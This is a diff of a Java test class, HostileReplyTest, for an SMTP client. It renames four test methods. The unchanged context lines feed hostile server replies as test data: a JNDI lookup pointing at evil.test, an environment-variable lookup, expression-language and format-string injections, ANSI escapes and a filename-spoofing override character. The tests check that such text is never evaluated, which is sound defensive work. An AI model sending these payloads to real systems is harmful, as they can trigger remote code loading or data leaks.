@@ -51,7 +51,7 @@ class HostileReplyTest {
             "HTTP/1.1 200 OK\r\n\r\n", "SSH-2.0-OpenSSH_9\r\n", "* OK IMAP4rev1\r\n",
             "\u0015\u0003\u0001\u0000\u0002\u0002\u0028\r\n",
             "250-a\r\n250 b\n", "250 a\rb\n" })
-    void whatIsNoReplyEndsTheConnectionAtEveryStep(String rubbish) throws Exception {
+    void malformedReplyClosesTheConnectionAtEveryStep(String rubbish) throws Exception {
         for (String step : STEPS) {
             try (ScriptedServer server = at(step, rubbish); MailRoute route = new MailRoute(server, "")) {
                 route.send("hello");
@@ -135,7 +135,7 @@ class HostileReplyTest {
 
     @ParameterizedTest
     @ValueSource(strings = { "550 2.0.0 ok\r\n", "551 <new@elsewhere.test>\r\n", "550\r\n" })
-    void aRefusalInAnyWordsIsOneAndNobodyIsFollowed(String reply) throws Exception {
+    void rejectionTextIsNeitherInterpretedNorFollowed(String reply) throws Exception {
         try (ScriptedServer server = at("RCPT", reply); MailRoute route = new MailRoute(server, "")) {
             route.send("hello");
             assertThat(route.last().getException()).isInstanceOf(SmtpxPermanentException.class);
@@ -232,7 +232,7 @@ class HostileReplyTest {
             "550 5.7.1 \u001b[31mred\u001b[0m\u0007", "550 ${jndi:ldap://evil.test/x} ${body} %s {} %n",
             "550 ${sysenv:HOME} #{1+1} $simple{header.x}", "550 \u00E2\u0080\u00AEtxt.exe", "550 \u00FF\u00FE\u0080",
             "550 a\u0000b\tc", "550 a\u007Fb\u0085c" })
-    void whatAServerSaysIsPrintableAndNeverEvaluated(String reply) throws Exception {
+    void replyTextIsPrintableAndNeverEvaluated(String reply) throws Exception {
         try (ScriptedServer server = at("RCPT", reply + "\r\n"); MailRoute route = new MailRoute(server, "")) {
             route.send("hello");
 
@@ -251,7 +251,7 @@ class HostileReplyTest {
     }
 
     @Test
-    void whatAServerSaysIsCappedWhereItIsShown() throws Exception {
+    void replyTextIsCappedWhereItIsShown() throws Exception {
         StringBuilder reply = new StringBuilder();
         for (int i = 0; i < 30; i++) {
             reply.append(i < 29 ? "550-" : "550 ").append("x".repeat(2000)).append("\r\n");
